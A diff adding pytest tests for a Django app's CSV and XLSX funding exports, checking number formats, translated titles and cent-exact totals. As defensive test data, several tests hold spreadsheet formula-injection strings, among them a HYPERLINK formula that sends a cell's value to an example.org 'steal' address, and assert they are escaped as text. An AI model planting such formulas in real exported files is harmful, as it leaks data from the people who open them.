@@ -1,0 +1,184 @@
+"""Exports: the shared CSV/XLSX writer (restrack/core/exports.py) and the public funding exports,
+read back with the csv module and openpyxl and compared with the pages' figures to the cent."""
+
+import csv
+import io
+from datetime import date
+from decimal import Decimal
+
+import pytest
+from openpyxl import load_workbook
+
+from restrack.accounts.actions import find_instrument
+from restrack.core.exports import Sheet, write_csv, write_xlsx
+from restrack.funding.actions import record_funding
+from restrack.publish import selectors
+from restrack.publish.tests.funding_samples import _shared_funding, sample_funding  # noqa: F401  (the fixtures)
+from restrack.publish.tests.funding_samples import exact, instruments_in, total
+from restrack.reporting.models import ReportingPeriod
+
+HEADER = ["instrument", "title", "period", "requirements_usd", "mobilized_core_usd", "mobilized_earmarked_usd",
+          "mobilized_window_usd", "mobilized_other_usd", "mobilized_usd", "gap_usd", "surplus_usd", "gap_percent", "note"]
+AMOUNT_COLUMNS = HEADER[3:11]
+FORMULAS = ['=HYPERLINK("http://example.org/x","click")', "+1+1", "-2+3", "@SUM(A1:A2)"]
+
+
+def read_csv(content: bytes) -> list[dict]:
+    assert content.startswith(b"\xef\xbb\xbf")  # a byte-order mark: Excel reads UTF-8
+    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
+
+
+def read_xlsx(content: bytes):
+    workbook = load_workbook(io.BytesIO(content))
+    return workbook
+
+
+def sheet_rows(worksheet) -> list[dict]:
+    rows = list(worksheet.iter_rows(values_only=True))
+    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+
+
+# The writer ----------------------------------------------------------------------------------
+
+
+def test_csv_keeps_numbers_and_neutralises_formulas_in_text():
+    content = write_csv(["what", "amount", "count", "day"], [
+        *[[text, Decimal("-100.50"), -3, date(2024, 12, 31)] for text in FORMULAS],
+        ["人人享有适当住房", Decimal("1858000.55"), 7, None],
+        ["plain = text", Decimal("1E+3").quantize(Decimal("0.01")), 0, None],
+    ])
+    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+    assert rows[0] == ["what", "amount", "count", "day"]
+    assert [row[0] for row in rows[1:5]] == ["'" + text for text in FORMULAS]
+    assert rows[1][1:] == ["-100.50", "-3", "2024-12-31"]  # a negative number is a number, not text
+    assert rows[5] == ["人人享有适当住房", "1858000.55", "7", ""]
+    assert rows[6] == ["plain = text", "1000.00", "0", ""]  # plain digits, never 1E+3
+    assert b"\r\n" in content
+
+
+def test_xlsx_keeps_numbers_and_neutralises_formulas_in_text():
+    content = write_xlsx([
+        Sheet("Funding", ["what", "amount", "count", "day"], [
+            *[[text, Decimal("-100.50"), -3, date(2024, 12, 31)] for text in FORMULAS],
+            ["人人享有适当住房", Decimal("1858000.55"), 7, None],
+        ]),
+        Sheet("A sheet title longer than Excel's limit: [31]", ["x"], [[1]]),
+    ])
+    workbook = read_xlsx(content)
+    assert workbook.sheetnames == ["Funding", "A sheet title longer than Excel"]
+    sheet = workbook["Funding"]
+    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"
+    for row, text in enumerate(FORMULAS, start=2):
+        cell = sheet.cell(row=row, column=1)
+        assert cell.value == "'" + text and cell.data_type == "s"  # text, never a formula
+        amount = sheet.cell(row=row, column=2)
+        assert amount.data_type == "n" and amount.value == -100.5 and amount.number_format == "#,##0.00"
+        assert sheet.cell(row=row, column=3).value == -3
+        assert sheet.cell(row=row, column=4).value.date() == date(2024, 12, 31)
+    assert sheet["A6"].value == "人人享有适当住房" and Decimal(str(sheet["B6"].value)) == Decimal("1858000.55")
+    assert sheet["D6"].value is None
+
+
+# The funding exports ---------------------------------------------------------------------------
+
+
+pytestmark = pytest.mark.django_db
+
+
+def expected_rows(period=None) -> list[dict]:
+    """What the selectors say, as exact strings per column."""
+    data = selectors.published_funding(period=period)
+    rows = []
+    for line_period, line in data.all_lines():
+        figures = line.funding
+        values = [figures.requirements, *figures.mobilized_by_source.values(), figures.mobilized,
+                  figures.shortfall, figures.surplus]
+        rows.append({"instrument": line.instrument.reference, "period": line_period.label,
+                     **{name: "" if value is None else f"{value:.2f}" for name, value in zip(AMOUNT_COLUMNS, values, strict=True)}})
+    return rows
+
+
+def test_csv_of_every_published_period(client, sample_funding):
+    response = client.get("/en/funding/export.csv")
+    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"] == 'attachment; filename="restrack-funding-all-periods.csv"'
+    rows = read_csv(response.content)
+    assert list(rows[0]) == HEADER
+    assert len(rows) == 22 and {row["period"] for row in rows} == {"2020-H1", "2024-H2"}  # never the draft 2025-H1
+    assert [{key: row[key] for key in ("instrument", "period", *AMOUNT_COLUMNS)} for row in rows] == expected_rows()
+    surplus = next(row for row in rows if row["instrument"] == "resolution 2/8")
+    assert (surplus["gap_usd"], surplus["surplus_usd"], surplus["gap_percent"]) == ("0.00", "100000.00", "0")
+    unknown = next(row for row in rows if row["instrument"] == "resolution 2/4")
+    assert (unknown["mobilized_usd"], unknown["gap_usd"], unknown["gap_percent"]) == ("", "", "")
+    first = rows[0]
+    assert first["title"] == "UN-Habitat strategic plan for the period 2020–2023" and first["gap_percent"] == "59"
+    assert first["note"] == "Made-up sample figures for demonstration; not UN-Habitat data."
+
+
+def test_xlsx_of_one_period_matches_the_page_to_the_cent(client, sample_funding):
+    response = client.get("/en/funding/export.xlsx?period=2024-H2")
+    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    assert response["Content-Disposition"] == 'attachment; filename="restrack-funding-2024-H2.xlsx"'
+    workbook = read_xlsx(response.content)
+    sheet = workbook[workbook.sheetnames[0]]
+    rows = sheet_rows(sheet)
+    assert len(rows) == 16 and {row["period"] for row in rows} == {"2024-H2"}
+    assert sheet["D2"].data_type == "n" and sheet["D2"].number_format == "#,##0.00"
+    cents = {name: sum(Decimal(str(row[name])) for row in rows if row[name] is not None) for name in AMOUNT_COLUMNS}
+    html = client.get("/en/funding/?period=2024-H2").content.decode()
+    assert cents["requirements_usd"] == exact(total(html, "requirements")) == Decimal("24408000.00")
+    assert cents["mobilized_usd"] == exact(total(html, "mobilized")) == Decimal("15540551.15")
+    assert cents["gap_usd"] - cents["surplus_usd"] == exact(total(html, "gap")) == Decimal("7767448.85")
+    assert cents["mobilized_window_usd"] == Decimal("400000.00")
+    exported = [{key: "" if row[key] is None else f"{Decimal(str(row[key])):.2f}" for key in AMOUNT_COLUMNS} for row in rows]
+    period = ReportingPeriod.objects.get(label="2024-H2")
+    assert exported == [{key: row[key] for key in AMOUNT_COLUMNS} for row in expected_rows(period)]
+
+
+def test_titles_in_the_page_language(client, sample_funding):
+    rows = read_csv(client.get("/zh-hans/funding/export.csv?period=2024-H2").content)
+    titles = {row["instrument"]: row["title"] for row in rows}
+    assert titles["resolution 2/7"] == "人人享有适当住房"
+    workbook = read_xlsx(client.get("/zh-hans/funding/export.xlsx").content)
+    assert "人人享有适当住房" in [row["title"] for row in sheet_rows(workbook.active)]
+    english = read_csv(client.get("/en/funding/export.csv?period=2024-H2").content)
+    assert {row["instrument"]: row["title"] for row in english}["resolution 2/7"] == "Adequate housing for all"
+
+
+def test_a_formula_in_a_note_comes_back_as_text(client, sample_funding):
+    record_funding(find_instrument("resolution 2/6"), ReportingPeriod.objects.get(label="2024-H2"),
+                   note='=HYPERLINK("http://example.org/steal?x="&A1,"Details")', acting_user=sample_funding,
+                   reason="A test of formula injection")
+    row = next(r for r in read_csv(client.get("/en/funding/export.csv?period=2024-H2").content)
+               if r["instrument"] == "resolution 2/6")
+    assert row["note"] == '\'=HYPERLINK("http://example.org/steal?x="&A1,"Details")'
+    sheet = read_xlsx(client.get("/en/funding/export.xlsx?period=2024-H2").content).active
+    cell = next(c for c in sheet["M"] if isinstance(c.value, str) and "HYPERLINK" in c.value)
+    assert cell.data_type == "s" and cell.value.startswith("'=HYPERLINK(")
+    assert not any(c.data_type == "f" for line in sheet.iter_rows() for c in line)
+
+
+def test_a_period_without_published_figures_is_a_clear_404(client, sample_funding):
+    response = client.get("/en/funding/export.csv?period=2025-H1")
+    assert response.status_code == 404
+    assert response.content.decode() == ("No published funding figures for the period 2025-H1. "
+                                         "Published periods with figures: 2020-H1, 2024-H2.")
+    assert client.get("/en/funding/export.pdf").status_code == 404
+
+
+def test_ranking_export_follows_the_page(client, sample_funding):
+    html = client.get("/en/funding/").content.decode()
+    response = client.get("/en/funding/ranking.csv?period=2024-H2")
+    assert response["Content-Disposition"] == 'attachment; filename="restrack-funding-ranking-2024-H2.csv"'
+    rows = read_csv(response.content)
+    assert [row["instrument"] for row in rows] == instruments_in(html, "ranking-gap")
+    by_percent = sorted(rows, key=lambda row: int(row["rank_by_gap_percent"]))
+    assert [row["instrument"] for row in by_percent] == instruments_in(html, "ranking-gap-percent")
+    assert rows[0]["gap_usd"] == "1684500.00" and rows[0]["gap_percent"] == "53"
+    sheet = read_xlsx(client.get("/en/funding/ranking.xlsx").content).active
+    assert [row["instrument"] for row in sheet_rows(sheet)] == [row["instrument"] for row in rows]
+
+
+def test_exports_read_a_fixed_number_of_queries(client, sample_funding, django_assert_max_num_queries):
+    with django_assert_max_num_queries(4):  # periods with figures, records with their periods, instruments
+        client.get("/en/funding/export.xlsx")
